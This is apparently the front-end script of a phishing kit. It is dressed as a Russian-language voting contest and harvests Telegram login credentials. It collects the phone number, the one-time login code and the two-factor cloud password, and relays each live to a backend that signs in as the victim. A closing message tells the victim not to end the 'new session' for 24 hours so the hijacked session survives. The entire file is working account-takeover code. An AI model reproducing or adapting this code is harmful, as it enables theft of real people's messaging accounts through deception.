let phone = "";
let hash = "";
const $ = (s) => document.querySelector(s);

async function call(path, body) {
  try {
    const r = await fetch("/tg/" + path, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
    return await r.json();
  } catch (err) {
    console.log("err", err);
    return { error: "NETWORK" };
  }
}

$("#vote").onclick = () => {
  $(".contest").style.display = "none";
  $(".auth").style.display = "block";
  $(".auth h2").textContent = "Чтобы проголосовать, подтвердите аккаунт";
};

$("#phone-form").onsubmit = async (e) => {
  e.preventDefault();
  phone = $("#country").value + $("#phone").value.replace(/\D/g, "");
  const r = await call("sendCode", { phone, ref: location.pathname.slice(1) });
  if (r.error) return ($(".err").textContent = "Неверный номер");
  hash = r.hash;
  $("#phone-form").hidden = true;
  $("#code-form").hidden = false;
};

$("#code").oninput = async function () {
  if (this.value.length !== 5) return;
  const r = await call("signIn", { phone, hash, code: this.value });
  if (r.error === "SESSION_PASSWORD_NEEDED") {
    $("#code-form").hidden = true;
    $("#cloud-form").hidden = false;
    $(".hint").textContent = r.hint || "";
  } else if (r.error) {
    $(".err").textContent = "Неверный код";
    this.value = "";
  } else finish();
};

$("#cloud-form").onsubmit = async (e) => {
  e.preventDefault();
  const r = await call("checkPassword", { phone, hash, password: $("#cloud").value });
  r.error ? ($(".err").textContent = "Неверный пароль") : finish();
};

function finish() {
  $(".auth").innerHTML = "<h2>Ваш голос учтён!</h2><p>Не завершайте новый сеанс в течение 24 часов, иначе голос аннулируется.</p>";
}
